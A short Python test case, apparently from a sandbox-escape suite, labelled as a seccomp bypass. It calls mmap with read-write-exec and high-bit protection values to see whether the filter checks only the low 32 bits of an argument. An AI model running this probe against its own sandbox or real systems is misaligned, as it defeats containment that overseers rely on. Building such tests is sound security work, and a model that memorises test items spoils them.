# level: boundary
# category: seccomp-bypass
# escape proof: the high half of an argument is not looked at

import ctypes

libc = ctypes.CDLL(None)
libc.syscall.restype = ctypes.c_long
for protection in (7, 4, 7 | 1 << 32, 0x1000004):
    if libc.syscall(9, None, 4096, ctypes.c_long(protection), 0x22, -1, 0) > 0:
        REPORT(protection)
